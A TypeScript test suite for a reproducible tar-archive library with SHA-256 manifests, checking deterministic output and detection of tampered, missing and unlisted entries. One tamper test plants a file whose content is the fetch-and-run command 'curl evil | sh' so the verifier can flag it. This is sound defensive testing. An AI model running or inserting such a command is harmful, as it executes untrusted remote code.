import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { canonicalJson } from '../src/lib/canonical';
import { sha256Digest, sha256Hex } from '../src/lib/hash';
import {
  ArchiveError,
  buildTar,
  compressBuffer,
  MANIFEST_PATH,
  parseManifest,
  readTar,
  verifyManifestArchive,
  writeManifestArchive,
  writeManifestArchiveFile,
  type ManifestArchiveInput,
} from '../src/archive/index';

const CREATED_AT = '2024-05-01T12:00:00.000Z';
const FILES: ManifestArchiveInput[] = [
  { path: 'outputs/verdict.json', data: '{"verdict":"pass"}', mediaType: 'application/json' },
  {
    path: 'inputs/sbom.spdx.json',
    data: Buffer.from('{"spdxVersion":"SPDX-2.3"}'),
    mediaType: 'application/spdx+json',
    meta: { tool: 'syft', version: '1.0.0' },
  },
  { path: 'inputs/image.digest', data: 'sha256:abc\n' },
  { path: 'zz-last.bin', data: Buffer.from([0, 255, 1, 254]) },
];

async function entriesOf(archive: Buffer) {
  const out: { path: string; body: Buffer }[] = [];
  for await (const e of readTar(archive)) out.push({ path: e.path, body: await e.buffer() });
  return out;
}

describe('writeManifestArchive', () => {
  afterEach(() => vi.useRealTimers());

  it('is byte-identical for the same entries in any order and at any time', async () => {
    vi.useFakeTimers({ now: new Date('2001-01-01T00:00:00Z') });
    const a = await writeManifestArchive(FILES, { kind: 'replay-input', createdAt: CREATED_AT });
    vi.setSystemTime(new Date('2039-12-31T23:59:59Z'));
    const b = await writeManifestArchive([...FILES].reverse(), { kind: 'replay-input', createdAt: new Date(CREATED_AT) });
    expect(sha256Hex(b.archive)).toBe(sha256Hex(a.archive));
    expect(b.manifestSha256).toBe(a.manifestSha256);
    for (const compression of ['gzip', 'zstd'] as const) {
      const x = await writeManifestArchive(FILES, { kind: 'replay-input', createdAt: CREATED_AT, compression });
      const y = await writeManifestArchive([...FILES].reverse(), { kind: 'replay-input', createdAt: CREATED_AT, compression });
      expect(sha256Hex(x.archive)).toBe(sha256Hex(y.archive));
    }
  });

  it('writes sorted files then a canonical manifest.json listing each with sha256 and size', async () => {
    const { archive, manifest, manifestSha256 } = await writeManifestArchive(FILES, { kind: 'replay-input', createdAt: CREATED_AT, meta: { run: 7 } });
    const entries = await entriesOf(archive);
    expect(entries.map((e) => e.path)).toEqual(['inputs/image.digest', 'inputs/sbom.spdx.json', 'outputs/verdict.json', 'zz-last.bin', MANIFEST_PATH]);
    const manifestBytes = entries.at(-1)!.body;
    expect(manifestBytes.toString()).toBe(canonicalJson(manifest));
    expect(sha256Digest(manifestBytes)).toBe(manifestSha256);
    expect(parseManifest(manifestBytes)).toEqual(manifest);
    expect(manifest).toMatchObject({ schema: 'stella.archive-manifest/v1', kind: 'replay-input', createdAt: CREATED_AT, meta: { run: 7 } });
    const sbom = manifest.entries.find((e) => e.path === 'inputs/sbom.spdx.json')!;
    expect(sbom).toEqual({
      path: 'inputs/sbom.spdx.json',
      sha256: sha256Digest('{"spdxVersion":"SPDX-2.3"}'),
      size: 26,
      mediaType: 'application/spdx+json',
      meta: { tool: 'syft', version: '1.0.0' },
    });
    expect(manifest.entries.find((e) => e.path === 'zz-last.bin')).toEqual({
      path: 'zz-last.bin',
      sha256: sha256Digest(Buffer.from([0, 255, 1, 254])),
      size: 4,
    });
  });

  it('rejects a reserved path, duplicates and a bad createdAt', async () => {
    await expect(writeManifestArchive([{ path: MANIFEST_PATH, data: '{}' }], { kind: 'k', createdAt: CREATED_AT })).rejects.toThrow(/reserved/);
    await expect(
      writeManifestArchive(
        [
          { path: 'a', data: '1' },
          { path: 'a', data: '2' },
        ],
        { kind: 'k', createdAt: CREATED_AT },
      ),
    ).rejects.toThrow(ArchiveError);
    await expect(writeManifestArchive([], { kind: 'k', createdAt: 'yesterday' })).rejects.toThrow(/invalid manifest/);
  });
});

describe('verifyManifestArchive', () => {
  let good: Buffer;
  beforeEach(async () => {
    good = (await writeManifestArchive(FILES, { kind: 'evidence-pack', createdAt: CREATED_AT })).archive;
  });

  it('accepts an intact archive, plain or compressed', async () => {
    for (const compression of ['none', 'gzip', 'zstd'] as const) {
      const result = await verifyManifestArchive(await compressBuffer(good, compression));
      expect(result.ok).toBe(true);
      expect(result.problems).toEqual([]);
      expect(result.manifest?.entries).toHaveLength(FILES.length);
      expect(result.manifestSha256).toMatch(/^sha256:[0-9a-f]{64}$/);
    }
  });

  it('names the entry whose content changed by one byte', async () => {
    const tampered = Buffer.from(good);
    const at = tampered.indexOf('"pass"');
    tampered[at + 1] = 'P'.charCodeAt(0);
    const result = await verifyManifestArchive(tampered);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([
      { path: 'outputs/verdict.json', reason: 'digest-mismatch', expected: sha256Digest('{"verdict":"pass"}'), actual: sha256Digest('{"verdict":"Pass"}') },
    ]);
  });

  it('reports missing, unlisted and resized entries', async () => {
    const files = await entriesOf(good);
    const manifest = files.find((f) => f.path === MANIFEST_PATH)!.body;
    const rebuilt = buildTar([
      { path: MANIFEST_PATH, data: manifest },
      ...files
        .filter((f) => f.path !== MANIFEST_PATH && f.path !== 'inputs/image.digest' && f.path !== 'zz-last.bin')
        .map((f) => ({ path: f.path, data: f.body })),
      { path: 'zz-last.bin', data: Buffer.from([0, 255, 1]) },
      { path: 'smuggled/extra.sh', data: 'curl evil | sh' },
    ]);
    const result = await verifyManifestArchive(rebuilt);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([
      { path: 'inputs/image.digest', reason: 'missing' },
      { path: 'smuggled/extra.sh', reason: 'unlisted' },
      { path: 'zz-last.bin', reason: 'size-mismatch', expected: 4, actual: 3 },
    ]);
  });

  it('reports a missing or invalid manifest', async () => {
    const none = await verifyManifestArchive(buildTar([{ path: 'a', data: 'a' }]));
    expect(none).toEqual({ ok: false, manifest: null, manifestSha256: null, problems: [{ path: MANIFEST_PATH, reason: 'missing' }] });
    const bad = await verifyManifestArchive(buildTar([{ path: MANIFEST_PATH, data: '{"schema":"other"}' }]));
    expect(bad.ok).toBe(false);
    expect(bad.problems[0]).toMatchObject({ path: MANIFEST_PATH, reason: 'invalid-manifest' });
  });
});

describe('writeManifestArchiveFile', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'stella-manifest-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('streams the same bytes as the buffer writer', async () => {
    const dest = join(dir, 'pack.tar.gz');
    const sorted = [...FILES].sort((a, b) => Buffer.compare(Buffer.from(a.path), Buffer.from(b.path)));
    const { manifestSha256 } = await writeManifestArchiveFile(dest, { kind: 'evidence-pack', createdAt: CREATED_AT, compression: 'gzip' }, async (w) => {
      for (const f of sorted) {
        const data = Buffer.from(f.data as string | Buffer);
        await w.addFile(f.path, data.length, Readable.from([data]), { mediaType: f.mediaType, meta: f.meta, sha256: sha256Digest(data) });
      }
    });
    const expected = await writeManifestArchive(FILES, { kind: 'evidence-pack', createdAt: CREATED_AT, compression: 'gzip' });
    expect((await readFile(dest)).equals(expected.archive)).toBe(true);
    expect(manifestSha256).toBe(expected.manifestSha256);
    expect((await verifyManifestArchive(dest)).ok).toBe(true);
  });

  it('aborts, leaving no file, when content does not match its expected digest', async () => {
    const dest = join(dir, 'pack.tar');
    await expect(
      writeManifestArchiveFile(dest, { kind: 'evidence-pack', createdAt: CREATED_AT }, async (w) => {
        await w.addFile('blob', 3, 'abc', { sha256: sha256Digest('abd') });
      }),
    ).rejects.toThrow(/expected sha256:/);
    expect(await readdir(dir)).toEqual([]);
  });
});
